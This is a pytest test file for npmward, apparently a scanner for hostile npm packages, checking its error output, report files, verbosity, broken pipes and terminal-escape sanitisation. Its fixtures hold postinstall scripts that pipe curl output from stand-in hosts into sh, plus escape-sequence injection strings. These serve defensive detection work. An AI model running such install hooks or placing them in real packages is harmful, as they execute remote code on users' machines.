"""How the commands write: errors once and on stderr, whole lines in files, --verbose/--quiet,
`| head` without a traceback, a heartbeat on a non-terminal stderr, diff's label."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from npmward.cli import app

runner = CliRunner()
LONG = "curl -s https://collector.example/" + "a" * 150 + " | sh"


def make_package(root: Path, name: str, version: str = "1.0.0", scripts: dict | None = None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    manifest = {"name": name, "version": version, "main": "index.js", **({"scripts": scripts} if scripts else {})}
    (root / "package.json").write_text(json.dumps(manifest))
    (root / "index.js").write_text("module.exports = 1;\n")
    return root


def invoke(*args: str):
    return runner.invoke(app, list(args))


def test_an_error_is_printed_once_on_stderr_and_written_into_a_report_file(tmp_path):
    result = invoke("scan", str(tmp_path / "nope.tgz"))
    assert result.exit_code == 2
    assert "nope.tgz" not in result.stdout and "1 error" in result.stdout
    assert [line for line in result.stderr.splitlines() if "nope.tgz" in line] == [
        f"error: {tmp_path / 'nope.tgz'}: no such file or directory"]
    out = tmp_path / "report.txt"
    result = invoke("scan", str(tmp_path / "nope.tgz"), "-o", str(out))
    assert result.exit_code == 2 and result.stdout == ""
    assert out.read_text().count("no such file or directory") == 1
    assert result.stderr.count("no such file or directory") == 1


def test_report_files_are_not_wrapped_at_a_fixed_width(tmp_path):
    evil = make_package(tmp_path / ("evil-" + "d" * 120), "evil-pkg", scripts={"postinstall": LONG})
    out = tmp_path / "report.txt"
    result = invoke("scan", str(evil), "--jobs", "1", "-o", str(out))
    assert result.exit_code == 1, result.output
    written = out.read_text()
    assert "\x1b[" not in written  # no colour codes in a file
    assert any(f"directory:{evil}" in line for line in written.splitlines()), written
    snippet = next(line for line in written.splitlines() if "collector.example/" in line)
    assert len(snippet) > 180 and "a" * 150 in snippet, written


def test_verbose_and_quiet(tmp_path):
    good = make_package(tmp_path / "good", "good-pkg")
    evil = make_package(tmp_path / "evil", "evil-pkg", scripts={"postinstall": "curl -s https://x.example/i | sh"})
    quiet = invoke("scan", str(good), str(evil), "--jobs", "1", "--quiet")
    assert quiet.exit_code == 1 and "evil-pkg@1.0.0" in quiet.stdout
    assert "good-pkg" not in quiet.stdout and "packages:" not in quiet.stdout and quiet.stderr == ""
    assert invoke("scan", str(good), "--jobs", "1", "-q").stdout == ""
    verbose = invoke("scan", str(good), "--jobs", "1", "--verbose")
    assert "CLEAN" in verbose.stdout and "good-pkg@1.0.0" in verbose.stdout


def _npmward(*args: str, **popen) -> subprocess.Popen:
    code = "import sys, npmward.cli as cli; cli._Progress.HEARTBEAT = float(sys.argv.pop(1)); cli.main()"
    return subprocess.Popen([sys.executable, "-c", code, *args], env={**os.environ, "NO_COLOR": "1"}, **popen)


def test_a_reader_that_stops_early_ends_the_output_not_the_verdict(tmp_path):
    """`npmward scan ... | head`: no "internal error: BrokenPipeError", the run's exit code stays."""
    evil = make_package(tmp_path / "evil", "evil-pkg", scripts={"postinstall": "curl -s https://x.example/i | sh"})
    process = _npmward("15", "scan", str(evil), "--jobs", "1", stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.close()  # the reader is gone before anything is written
    _, err = process.communicate(timeout=120)
    assert "BrokenPipe" not in err.decode() and "internal error" not in err.decode()
    assert process.returncode == 1


def test_a_heartbeat_on_stderr_when_it_is_not_a_terminal(tmp_path):
    targets = [str(make_package(tmp_path / f"p{i}", f"pkg-{i}")) for i in range(3)]
    process = _npmward("0", "scan", *targets, "--jobs", "1", stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, err = process.communicate(timeout=180)
    assert process.returncode == 0, err.decode()
    beats = [line for line in err.decode().splitlines() if line.startswith("analysing: ")]
    assert beats and beats[-1].startswith("analysing: 3/3 ("), err.decode()
    assert all("/s" in line for line in beats)
    quiet = _npmward("0", "scan", *targets, "--jobs", "1", "--quiet", stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert "analysing" not in quiet.communicate(timeout=180)[1].decode()


def test_diff_of_two_different_packages_names_both(tmp_path):
    """`diff express@4.21.2 lodash@4.17.21` once printed "lodash: 4.21.2 -> 4.17.21"."""
    old = make_package(tmp_path / "express", "express", "4.21.2")
    new = make_package(tmp_path / "lodash", "lodash", "4.17.21")
    result = invoke("diff", str(old), str(new))
    assert result.stdout.splitlines()[0] == "express@4.21.2 -> lodash@4.17.21", result.output
    same = invoke("diff", str(old), str(make_package(tmp_path / "express5", "express", "5.0.0")))
    assert same.stdout.splitlines()[0] == "express: 4.21.2 -> 5.0.0"


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_every_format_reports_to_a_file(tmp_path, fmt):
    good = make_package(tmp_path / "good", "good-pkg")
    out = tmp_path / f"report.{fmt}"
    result = invoke("scan", str(good), "--jobs", "1", "-f", fmt, "-o", str(out))
    assert result.exit_code == 0 and result.stdout == "" and out.read_text()


def test_a_hostile_package_cannot_drive_the_terminal(tmp_path):
    """Names, versions and snippets from package.json with CSI and OSC sequences in them."""
    bad = tmp_path / "pkg"
    bad.mkdir()
    (bad / "package.json").write_text(json.dumps({
        "name": "x\x1b[2Jy", "version": "1.0.0\x1b]8;;https://evil.example\x07",
        "scripts": {"postinstall": "curl https://x.example/\x1b[31mred | sh"}}))
    for args in ((), ("--verbose",), ("-o", str(tmp_path / "r.txt"))):
        result = invoke("scan", str(bad), "--jobs", "1", *args)
        assert result.exit_code == 1, result.output
        written = result.stdout + result.stderr + ((tmp_path / "r.txt").read_text() if args[:1] == ("-o",) else "")
        assert "\x1b" not in written, repr(written)
        assert "x\\x1b[2Jy@1.0.0\\x1b]8;;https://evil.example\\x07" in written
